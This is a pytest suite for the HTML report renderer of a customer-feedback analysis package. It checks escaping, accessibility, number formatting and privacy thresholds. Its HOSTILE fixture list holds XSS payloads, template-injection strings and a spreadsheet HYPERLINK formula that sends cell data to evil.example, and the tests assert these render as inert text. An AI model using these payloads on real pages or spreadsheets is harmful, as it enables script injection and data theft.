import re
from collections import Counter
from dataclasses import dataclass, field, replace
from html import escape
from html.parser import HTMLParser
from itertools import pairwise

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from voc_nlp.analysis.data_quality import no_copies, no_data_quality
from voc_nlp.analysis.languages import no_languages
from voc_nlp.comments import Note
from voc_nlp.config import AnalysisConfig, Roles
from voc_nlp.ranking import no_asymmetry, no_waterfall
from voc_nlp.report import render_html
from voc_nlp.report.marks import Scale, spanning
from voc_nlp.touchpoints import no_journey

HOSTILE = [
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "'-->]]></style></script><svg/onload=alert(1)>{{ 7 * 7 }}{% raw %}",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "see https://shop.example/help?a=1&b=<2>, no answer since",
    "الخدمة بطيئة جدا والموظف لم يساعدني \u202e!dne",
    "Never again 😡👨‍👩‍👧 čekali jsme 3 hodiny; 太慢了",
    "too long " * 556,
    "nul \x00 bell \x07 \x9f \ufffe",
]


@dataclass(frozen=True, eq=False)
class Shown:
    """The attributes of an Analysis, from tables written by hand."""

    comments: pd.DataFrame
    mentions: pd.DataFrame
    themes: pd.DataFrame
    scores: pd.DataFrame
    pain_points: pd.DataFrame
    config: AnalysisConfig
    roles: Roles
    notes: tuple
    provenance: dict
    languages: pd.DataFrame = field(default_factory=no_languages)
    journey: pd.DataFrame = field(default_factory=no_journey)
    waterfall: pd.DataFrame = field(default_factory=no_waterfall)
    asymmetry: pd.DataFrame = field(default_factory=no_asymmetry)
    data_quality: pd.DataFrame = field(default_factory=no_data_quality)
    copies: pd.DataFrame = field(default_factory=no_copies)
    checks: dict = field(default_factory=dict)
    proposals: pd.DataFrame = field(default_factory=pd.DataFrame)
    migration: pd.DataFrame = field(default_factory=pd.DataFrame)
    why_no_cost: str = ""


def make_comments():
    text = [
        *HOSTILE,
        "Slow delivery",
        "",
        "n/a",
        "Slow delivery of my parcel, again",
        "Great staff",
    ]
    n = len(text)
    return pd.DataFrame(
        {
            "comment_id": [f'c"{at}<' for at in range(n)],
            "row": range(n),
            "text": pd.Series(text, dtype=object),
            "touchpoint": ["delivery", "<b>store</b>"] * (n // 2),
            "date": pd.date_range("2024-01-01", periods=n),
            "nps": [0.0, 3, 6, 7, 8, 9, 10, 10, np.nan, 2, 9, 5, 4, 10],
            "csat": np.nan,
            "ces": np.nan,
            "churned": pd.array([pd.NA] * n, dtype="boolean"),
            "weight": 1.0,
            "language": ["en"] * 5 + ["ar", "cs"] + ["en"] * 3 + ["und"] * 2 + ["en"] * 2,
            "status": ["ok"] * 7
            + ["too_long"]
            + ["ok"] * 2
            + ["empty", "contentless", "duplicate", "ok"],
        }
    )


def make_themes(n=2):
    return pd.DataFrame(
        {
            "theme_id": [f"t{at:04d}" for at in range(1, n + 1)],
            "parent_id": ["", *["t0001"] * (n - 1)],
            "label": ["slow <i>delivery</i>", *[f"theme & {at}" for at in range(2, n + 1)]],
            "keywords": [["late", "<u>slow</u>", 'par"cel']] * n,
            "quotes": [HOSTILE[:3]] * n,
            "quote_ids": [['c"0<', 'c"1<', 'c"2<']] * n,
            "n_mentions": 12,
            "n_comments": 11,
            "share": np.linspace(0.3, 0.1, n) if n > 1 else [0.3],
            "share_low": 0.05,
            "share_high": 0.44,
            "p_negative": 0.7,
            "p_neutral": 0.2,
            "p_positive": 0.1,
            "languages": [["en", "ar"]] * n,
            "stability": np.linspace(0.95, 0.41, n) if n > 1 else [0.95],
            "cohesion": 0.5,
        }
    )


def make_pain(n=4):
    at = np.arange(n)
    return pd.DataFrame(
        {
            "rank": at + 1,
            "rank_low": np.maximum(at - 1, 1),
            "rank_high": np.minimum(at + 3, n),
            "tier": np.where(at == 0, "certain top 5", "other"),
            "score": "nps",
            "touchpoint": np.where(at % 2, "<b>store</b>", "delivery"),
            "theme_id": [f"t{k + 1:04d}" for k in at],
            "label": [HOSTILE[k % len(HOSTILE)][:60] for k in at],
            "n_comments": 41 + at,
            "n_negative": 37 - at % 20,
            "share_negative": 0.317,
            "share_negative_low": 0.251,
            "share_negative_high": 0.402,
            "impact": -4.13 + at * 1.7 / max(n / 4, 1),
            "impact_low": -5.68 + at * 1.7 / max(n / 4, 1),
            "impact_high": -2.61 + at * 1.7 / max(n / 4, 1),
            "raw_impact": -6.02,
            "raw_impact_low": -7.11,
            "raw_impact_high": -4.93,
            "p_top3": 0.873,
            "p_top5": 0.999,
            "evidence": np.array(["strong", "moderate", "weak", "weak"])[at % 4],
            "sentence": [f"{HOSTILE[k % len(HOSTILE)][:60]} costs {4 + k} points." for k in at],
            "quotes": [HOSTILE[k % 5 :][:3] for k in at],
            "quote_ids": [[f'c"{q}<' for q in range(k % 5, k % 5 + 3)] for k in at],
        }
    )


def make_scores():
    rows = [
        ("nps", "all", "all", -7.7, -48.2, 20.9, 13),
        ("nps", "touchpoint", "touchpoint=delivery", 12.6, -20.3, 41.8, 33),
        ("nps", "touchpoint", "touchpoint=<b>store</b>", np.nan, np.nan, np.nan, 4),
        ("nps", "segment", "pl=an=a=b", 3.0, -9.0, 12.0, 31),
        ("nps", "language", "language=cs", 1.0, -19.0, 22.0, 29),
        ("csat", "all", "all", 61.25, 52.5, 69.75, 120),
        ("csat_mean", "all", "all", 3.71, 3.52, 3.9, 120),
        ("churn", "all", "all", np.nan, np.nan, np.nan, 3),
    ]
    columns = ["metric", "slice_type", "slice", "value", "low", "high", "n"]
    return pd.DataFrame(rows, columns=columns).assign(n_effective=lambda t: t["n"] * 0.8)


@pytest.fixture
def shown():
    return Shown(
        comments=make_comments(),
        mentions=pd.DataFrame({"comment_id": ["a"] * 20}),
        themes=make_themes(),
        scores=make_scores(),
        pain_points=make_pain(),
        config=AnalysisConfig(csat_scale=(1, 5)),
        roles=Roles(text=('co"m<m>ent',), nps="nps", touchpoint="step"),
        notes=(
            Note("info", "nps-scale", "Column 'nps' is read as <0 to 10>."),
            Note("warning", "date-order", "Day & month could be swapped; use --date."),
        ),
        provenance={
            "voc_nlp": "0.1.0",
            "created": "2024-05-01",
            "source": "<export>.csv",
            "sha256": "ab" * 32,
            "granularity": [[2, 0.5], [3, 0.4]],
            "encoder": "minilm",
            "sentiment": "head-1",
            "seed": 0,
            "counts": {"rows_in": 14},
            "main_score": "nps",
            "timings": {"total": 1.5},
        },
    )


VOID = {"meta", "br", "input", "link", "img", "hr"}


class Page(HTMLParser):
    """Reads a page, refuses unbalanced tags, and keeps what the tests ask for."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.open, self.tags, self.ids, self.attributes, self.text = [], Counter(), [], [], []
        self.feed(page)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        assert len(attrs) == len({name for name, _ in attrs})
        self.attributes += [(tag, name, value) for name, value in attrs]
        self.ids += [value for name, value in attrs if name == "id"]
        if tag not in VOID and tag not in {"rect", "line", "circle"}:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if self.open and self.open[-1] == tag:
            self.open.pop()

    def handle_endtag(self, tag):
        assert self.open, f"</{tag}> closes nothing"
        assert self.open.pop() == tag
        if tag in {"td", "th", "dt", "li", "p"}:
            self.text.append(" ")

    def handle_data(self, data):
        if not self.open or self.open[-1] not in ("script", "style"):
            self.text.append(data)

    @property
    def words(self):
        return re.sub(r"\s+", " ", "".join(self.text))


def check_safe(page):
    """What must hold of every page, whatever the data."""
    page.encode("utf-8")
    read = Page(page)
    assert read.tags["script"] == 1
    assert read.tags["style"] == 1
    assert not {"img", "iframe", "object", "embed", "link", "base", "i", "u"} & set(read.tags)
    assert max(Counter(read.ids).values()) == 1
    for tag, name, value in read.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in {"src", "srcset", "action", "xlink:href", "background"}
        if name in ("href", "for", "aria-labelledby", "data-for", "data-more", "data-open"):
            target = value.removeprefix("#")
            assert target in read.ids, (name, value)
            assert name != "href" or value.startswith("#")
    style = page[page.index("<style>") : page.index("</style>")]
    assert "url(" not in style
    assert "@import" not in style
    return read


anything = (
    st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
    | st.sampled_from(HOSTILE)
    | st.text("<>\"'&{}%=/ \x00\x0b", max_size=20)
)


@settings(max_examples=25, deadline=None)
@given(text=anything)
def test_no_text_breaks_out(text):
    one, pain, themes = make_comments(), make_pain(1), make_themes(1)
    one = one.assign(
        comment_id=["id" + text, *one["comment_id"][1:]], touchpoint=text, language=text
    )
    quoted = {"quotes": [[text]], "quote_ids": [["id" + text]]}
    analysis = Shown(
        comments=one,
        mentions=pd.DataFrame(index=range(3)),
        themes=themes.assign(
            label=text, theme_id=text, keywords=[[text]], languages=[[text]], **quoted
        ),
        scores=make_scores().assign(slice=f"{text}={text}"),
        pain_points=pain.assign(
            label=text, touchpoint=text, sentence=text, evidence=text, tier=text, **quoted
        ),
        config=AnalysisConfig(encoder=text),
        roles=Roles(text=(text,), segments=(text,)),
        notes=(Note("warning", text, text), Note("info", text, text)),
        provenance={
            "source": text,
            "sha256": text,
            text: {text: [text]},
            "main_score": "nps",
            "encoder": text,
        },
    )
    check_safe(render_html(analysis))


def test_hostile_comments_are_shown_as_text(shown):
    page = render_html(shown)
    read = check_safe(page)
    for raw in HOSTILE[:2]:
        assert raw not in page
        assert re.sub(r"\s+", " ", raw) in read.words
    assert str(escape(HOSTILE[0], quote=False)).replace("'", "&#39;") in page
    assert "https://shop.example/help" in read.words
    assert "{{ 7 * 7 }}" in read.words
    assert "\x00" not in page
    assert "default-src 'none'" in page


def test_page_is_accessible(shown):
    page = render_html(shown)
    read = check_safe(page)
    assert '<html lang="en" dir="ltr">' in page
    assert read.tags["h1"] == read.tags["main"] == read.tags["nav"] == 1
    assert 'lang="ar" dir="auto"' in page
    assert read.tags["caption"] == read.tags["table"]
    headings = [int(level) for level in re.findall(r"<h([1-6])", page)]
    assert all(b <= a + 1 for a, b in pairwise(headings))
    labelled = len(re.findall(r"<label>.*?<(?:input|select)", page))
    assert labelled == read.tags["input"] + read.tags["select"]


def luminance(colour):
    parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    red, green, blue = (x / 12.92 if x <= 0.04045 else ((x + 0.055) / 1.055) ** 2.4 for x in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def test_text_colours_have_enough_contrast(shown):
    themes = re.findall(r":root \{(.*?)\}", render_html(shown), re.DOTALL)[:2]
    assert len(themes) == 2
    for theme in themes:
        colour = dict(re.findall(r"--([\w-]+): (#\w{6})", theme))
        for text in ("ink", "soft", "link", "neg"):
            for ground in ("page", "card", "wash"):
                light, dark = sorted(
                    (luminance(colour[text]), luminance(colour[ground])), reverse=True
                )
                assert (light + 0.05) / (dark + 0.05) >= 4.5, (text, ground)


def test_languages_stand_in_the_order_of_their_names(shown):
    one = shown.scores[shown.scores["slice_type"] == "language"]
    more = [one.assign(slice=f"language={code}") for code in ("de", "en", "es", "und", "zh")]
    page = Page(render_html(replace(shown, scores=pd.concat([shown.scores, *more])))).words
    table = page[page.index("NPS by language") :]
    names = ["Chinese", "Czech", "English", "German", "Spanish", "no comment, or not recognised"]
    places = [table.index(name) for name in names]
    assert places == sorted(places)


def test_top_three_and_five_are_said_only_of_longer_lists(shown):
    for n, three, five in ((3, False, False), (5, True, False), (6, True, True)):
        words = Page(render_html(replace(shown, pain_points=make_pain(n)))).words
        assert ("among worst 3" in words, "Top 5" in words) == (three, five)


def test_numbers_are_those_of_the_tables(shown):
    page = render_html(shown)
    words = Page(page).words
    first = shown.pain_points.iloc[0]
    assert f'data-v="{first["impact"]}"' in page
    assert "−4.1 −5.7 to −2.6" in words
    assert "unadjusted −6.0 (−7.1 to −4.9)" in words
    assert "32 % 25 to 40 %" in words
    assert "among worst 3: 87 %" in words
    assert "−8 −48 to +21" in words
    assert "61.2 % 52.5 to 69.8 %" in words
    assert "mean answer 3.71 (3.52 to 3.90)" in words
    assert "120 answers, worth 96 after weighting" in words
    assert "4 or more on 1 to 5" in words
    assert "46 % detractors" in words  # 6 of 13
    assert "Fewer than five answers" in words
    assert "too few" in words


def test_each_pain_point_has_one_row_in_order(shown):
    page = render_html(shown)
    ranks = [int(rank) for rank in re.findall(r'<tr id="pain-(\d+)"', page)]
    assert ranks == shown.pain_points["rank"].tolist()
    shuffled = replace(shown, pain_points=shown.pain_points.sample(frac=1, random_state=1))
    assert render_html(shuffled) == page


def test_signs_that_differ_are_said(shown):
    shown = replace(shown, pain_points=make_pain(2))
    assert "opposite sign" not in Page(render_html(shown)).words
    turned = shown.pain_points.assign(raw_impact=2.0, raw_impact_low=1.0, raw_impact_high=3.0)
    assert "opposite sign" in render_html(replace(shown, pain_points=turned))


def test_rows_add_up_and_warnings_come_first(shown):
    words = check_safe(render_html(shown)).words
    assert "Sum equals the 14 rows that were read; all are in the tables 14" in words
    quality = words[words.index("What became of every row") :]
    numbers = [
        int(n) for n in re.findall(r" (\d+) \d+(?:\.\d)? %", quality[: quality.index("Sum")])
    ]
    assert sum(numbers) == 14
    assert words.index("Day & month could be swapped") < words.index("is read as <0 to 10>")
    assert "--nps COLUMN" in words
    lost = replace(shown, provenance=shown.provenance | {"counts": {"rows_in": 15}})
    assert (
        "The rows do not add up: 15 were read and 14 are in the table."
        in Page(render_html(lost)).words
    )


def test_limits_and_provenance_are_stated(shown):
    words = check_safe(render_html(shown)).words
    for said in (
        "Association is not cause",
        "A mention is not an experience",
        "not corrected",
        "ab" * 32,
        "0.1.0",
    ):
        assert said in words
    assert "15 negative comments on" in words


def test_no_pain_point(shown):
    empty = replace(shown, pain_points=shown.pain_points.head(0))
    words = check_safe(render_html(empty)).words
    assert "Nothing passes the base" in words
    assert "at least 15 comments" in words
    assert "How sure?" not in words


def test_without_a_score_the_ranking_is_called_descriptive(shown):
    nothing = dict.fromkeys([c for c in shown.pain_points if "impact" in c], np.nan)
    pain = shown.pain_points.assign(score="", evidence="descriptive", **nothing)
    analysis = replace(
        shown,
        pain_points=pain,
        scores=shown.scores.head(0),
        comments=shown.comments.assign(nps=np.nan),
        provenance=shown.provenance | {"main_score": None},
    )
    words = check_safe(render_html(analysis)).words
    assert "This ranking is descriptive. The data hold no score" in words
    own = words.partition("How to read this ranking")[
        0
    ]  # the page folded in speaks of NPS in general
    assert "NPS points" not in own
    assert "n/a" not in words.replace("such as 'none' or 'n/a'", "")
    few = replace(analysis, provenance=shown.provenance, scores=shown.scores)
    assert "too few answers with a score" in Page(render_html(few)).words


def test_without_touchpoints_there_is_one_list(shown):
    analysis = replace(shown, pain_points=shown.pain_points.assign(touchpoint="(all)"))
    words = check_safe(render_html(analysis)).words
    assert "--touchpoint COLUMN" in words
    assert "Per touchpoint" not in words


def test_one_theme_and_none(shown):
    assert "unstable" not in Page(render_html(replace(shown, themes=make_themes(1)))).words
    words = check_safe(render_html(replace(shown, themes=make_themes(1).head(0)))).words
    assert "No theme was found" in words


def test_unstable_themes_are_marked(shown):
    words = Page(render_html(shown)).words
    assert "1 theme below 0.6 is marked unstable" in words
    assert "0.41 unstable" in words


def test_long_tables_are_cut_and_say_so(shown):
    many = replace(shown, themes=make_themes(2000), pain_points=make_pain(2000))
    page = render_html(many)
    words = check_safe(page).words
    assert "The 120 largest of 2,000 themes are shown; all stand in themes.parquet." in words
    assert "The 150 worst of 2,000 pain points are shown; all stand in pain_points.csv." in words
    assert "990 less harmful themes not shown" in words
    assert len(page) < 1_500_000


def test_small_page_is_small(shown):
    assert len(render_html(shown).encode()) < 100_000


def test_tables_as_read_from_parquet_give_the_same_page(shown):
    def back(table):
        lists = [c for c in table if isinstance(table[c].iloc[0], list)]
        return table.assign(
            **{c: [np.array(cell, dtype=object) for cell in table[c]] for c in lists}
        )

    again = replace(shown, themes=back(shown.themes), pain_points=back(shown.pain_points))
    assert render_html(again) == render_html(shown)


def test_nothing_is_changed(shown):
    tables = ("comments", "mentions", "themes", "scores", "pain_points")
    before = {name: getattr(shown, name).copy(deep=True) for name in tables}
    render_html(shown)
    for name, table in before.items():
        pd.testing.assert_frame_equal(getattr(shown, name), table)


def test_half_a_surrogate_pair_can_be_written(shown):
    quoted = shown.themes.assign(quotes=[["broken \ud83d emoji"]] * 2, quote_ids=[["a"]] * 2)
    assert "broken \ufffd emoji" in check_safe(render_html(replace(shown, themes=quoted))).words


@given(st.lists(st.floats(-1e6, 1e6), min_size=1, max_size=9))
def test_scales_hold_their_values_and_have_ticks(values):
    scale = spanning(values, 0.0)
    assert scale.low <= min(values) <= max(values) <= scale.high
    assert 2 <= len(scale.ticks()) <= 9
    places = [scale.percent(value) for value in sorted(values)]
    assert places == sorted(places)
    assert all(0 <= place <= 100 for place in places)
    assert Scale(0, 1).at(float("1e9")) == "98.00%"


def with_book(shown, people=30):
    proposals = pd.DataFrame(
        {
            "proposal_id": ["p1", "p2"],
            "label": ["points <b>gone</b>", "secret of two"],
            "keywords": [["points", "scheme"], ["secret"]],
            "n_mentions": [36, 6],
            "n_comments": [people, 2],
            "n_respondents": [people, 2],
            "n_core": [22, 5],
            "share": [0.031, 0.004],
            "nearest_id": ["t0001", "t0002"],
            "nearest_label": ["slow delivery", "theme 2"],
            "distinctness": [0.461, 0.3],
            "cohesion": [0.85, 0.7],
            "false_alarm": [1 / 21, 2 / 21],
            "quotes": [["call me on +44 20 7946 0958, points gone", HOSTILE[0]], ["secret"]],
            "quote_ids": [['c"0<', 'c"1<'], ["c2"]],
            "vector": ["abc=", "def="],
        }
    )
    migration = pd.DataFrame(
        {
            "from_id": ["t0001", "t0001", "t0001", "t0002"],
            "from_label": ["slow delivery"] * 3 + ["theme 2"],
            "to_id": ["t0001", "p1", "t0002", "t0001"],
            "to_label": ["slow delivery", "points <b>gone</b>", "theme 2", "slow delivery"],
            "because": [
                "stays",
                "would move if the proposal is accepted",
                "edit 3 (merge by Ana: one thing)",
                "edit 4 (include)",
            ],
            "n_mentions": [900, 36, 60, 4],
            "n_respondents": [500, people, 50, 4],
            "share": [0.9, 0.036, 0.06, 0.004],
        }
    )
    novel = Note("info", "novel", "1.9% of the mentions are far")
    return replace(
        shown,
        proposals=proposals,
        migration=migration,
        notes=(*shown.notes, novel),
        provenance={**shown.provenance, "theme_book": "my book"},
    )


def test_proposals_and_what_moved_are_shown(shown):
    page = check_safe(render_html(with_book(shown), folder="june"))
    words = page.words
    assert "points <b>gone</b> p1" in words
    assert "voc themes accept 'my book' june p1" in words
    assert "36 mentions" in words
    assert "22 different mentions that the book does not know; distance 0.46" in words
    assert "False alarm" in words
    assert "5 % " in words
    assert "7946" not in words
    assert "edit 3 (merge by Ana: one thing)" in words
    assert "90.0 % of the mentions have the same theme, 6.0 % were moved by edits" in words
    assert "3.6 % would move" in words
    assert "1.9% of the mentions are far" in words


def test_a_renamed_theme_is_told_with_both_labels(shown):
    found = with_book(shown)
    reason = "edit 2 (2026-11-23, by anna): rename t0001 'post' to 'slow delivery'"
    changed = found.migration.copy()
    changed.loc[0, ["from_label", "because"]] = ["post", reason]
    words = check_safe(render_html(replace(found, migration=changed))).words
    assert "90.0 % of the mentions have the same theme (90.0 % under another label)" in words
    assert f"post slow delivery t0001 {reason}" in words


def test_what_is_about_few_is_not_in_the_theme_book_section(shown):
    words = check_safe(render_html(with_book(shown))).words
    assert "secret" not in words
    assert "edit 4" not in words
    assert "0.4 % are in rows about fewer than 5 respondents" in words
    every = replace(with_book(shown), config=replace(shown.config, k_anonymity=1))
    assert "secret of two" in check_safe(render_html(every)).words


def test_a_book_without_proposals_says_so(shown):
    found = with_book(shown)
    words = check_safe(render_html(replace(found, proposals=found.proposals[:0]))).words
    assert "No new theme is proposed" in words
    assert "Theme book" not in check_safe(render_html(shown)).words


def test_a_rate_that_is_not_known_is_not_made_up(shown):
    found = with_book(shown)
    unknown = replace(found, proposals=found.proposals.assign(false_alarm=np.nan))
    assert "not known: the book has no file of its own" in check_safe(render_html(unknown)).words
